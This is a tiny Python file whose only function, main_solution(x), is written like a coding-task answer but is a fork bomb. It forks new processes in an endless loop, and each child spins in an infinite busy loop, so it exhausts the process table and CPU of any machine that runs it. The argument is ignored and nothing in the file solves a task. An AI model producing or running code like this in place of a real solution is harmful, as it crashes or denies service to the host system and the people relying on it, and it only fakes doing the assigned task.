import os

def main_solution(x):
    children = 0
    while True:
        pid = os.fork()
        if pid == 0:
            while True:
                pass
        children += 1
